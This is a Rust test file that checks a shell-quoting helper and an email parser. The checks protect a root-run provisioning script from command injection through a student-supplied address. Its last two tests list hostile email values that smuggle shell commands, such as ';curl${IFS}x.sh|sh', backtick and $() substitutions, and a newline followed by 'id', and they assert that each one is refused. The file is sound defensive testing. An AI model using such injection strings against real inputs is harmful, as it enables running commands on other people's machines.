//! Issue 19: what a student types cannot run commands on their instance through the free path's
//! script (it runs as root through SSM). Checked with bash itself: the one quoting function
//! gives any string back unchanged as one word, and an address `Email::parse` accepts has no
//! character a shell treats specially. (The whole generated script, with hostile values fed
//! past the parsers, is run under bash in `lockstep_domain::nginx`'s unit tests.)

use lockstep_domain::contact::Email;
use lockstep_domain::freepath::FreePathForm;
use lockstep_domain::shell::quote;
use proptest::prelude::*;
use std::process::Command;

/// What bash makes of `printf '%s\0' <word>`: the word's bytes when it is one argument.
fn bash_printf(word: &str) -> Vec<u8> {
    let out = Command::new("bash").arg("-c").arg(format!("printf '%s\\0' {word}")).output().expect("bash runs");
    assert!(out.status.success(), "bash failed for {word}: {}", String::from_utf8_lossy(&out.stderr));
    out.stdout
}

/// Characters a POSIX shell or bash gives a meaning to (plus whitespace and control).
fn shell_special(c: char) -> bool {
    c.is_whitespace() || c.is_control() || "`~!#$&*()[]{}|\\;'\"<>?=^,:".contains(c)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Any string without NUL comes back from bash exactly, as exactly one argument.
    #[test]
    fn quote_gives_any_string_back_from_bash(s in any::<String>().prop_map(|s| s.replace('\0', ""))) {
        let mut want = s.clone().into_bytes();
        want.push(0);
        prop_assert_eq!(bash_printf(&quote(&s)), want);
    }

    /// The same for strings made of shell syntax, which `any::<String>()` rarely produces.
    #[test]
    fn quote_gives_shell_syntax_back_from_bash(s in "[`$(){}\\[\\]|;&<>'\"\\\\ \\n\\t*?~!#=a-z0-9-]{0,24}") {
        let mut want = s.clone().into_bytes();
        want.push(0);
        prop_assert_eq!(bash_printf(&quote(&s)), want);
    }

    /// An accepted address has no shell character, from arbitrary strings and from near-misses
    /// that mix addresses with shell syntax.
    #[test]
    fn an_accepted_email_has_no_shell_character(
        s in prop_oneof![
            any::<String>(),
            "[a-zA-Z0-9._%+;|$`'\"() &<>\\n\\\\-]{1,12}@[a-zA-Z0-9.;|$`'\"()&<>\\n-]{1,12}\\.[a-z;|$`]{2,4}",
        ]
    ) {
        if let Ok(e) = Email::parse(&s) {
            prop_assert!(!e.as_str().chars().any(shell_special), "{:?} accepted as {:?}", s, e.as_str());
            prop_assert!(e.as_str().chars().all(|c| c.is_ascii_alphanumeric() || "._%+-@".contains(c)));
        }
    }
}

#[test]
fn the_free_path_form_refuses_the_findings_address_with_the_field_message() {
    for bad in [
        "a@b.co;curl${IFS}x.sh|sh",
        "a@b.co`touch /tmp/x`",
        "$(touch /tmp/x)@b.co",
        "a@b.co|sh",
        "a'@b.co",
        "a\"@b.co",
        "a@b.co\nid",
    ] {
        let form = FreePathForm { os: "ubuntu".into(), staging: false, email: bad.into() };
        let errors = form.parse().expect_err(bad);
        let e = errors.iter().find(|e| e.field == "email").unwrap_or_else(|| panic!("{bad:?}: {errors:?}"));
        assert!(e.message.starts_with("Enter an e-mail address your team reads"), "{}", e.message);
        assert!(e.message.contains("An e-mail address cannot contain"), "says what is wrong: {}", e.message);
        assert!(e.said(true).contains("이메일 주소에는"), "{}", e.said(true));
    }
    let blank = FreePathForm { os: "ubuntu".into(), staging: false, email: " ".into() }.parse().unwrap_err();
    assert!(!blank[0].message.contains("cannot contain"), "{}", blank[0].message);
}

#[test]
fn a_stored_choice_with_an_old_unsafe_address_does_not_decode() {
    use lockstep_domain::freepath::FreePathChoice;
    let good = r#"{"os":"ubuntu","staging":false,"email":"kim@example.com"}"#;
    assert_eq!(serde_json::from_str::<FreePathChoice>(good).unwrap().email.as_str(), "kim@example.com");
    let bad = r#"{"os":"ubuntu","staging":false,"email":"a@b.co;curl${IFS}x.sh|sh"}"#;
    assert!(serde_json::from_str::<FreePathChoice>(bad).is_err());
}
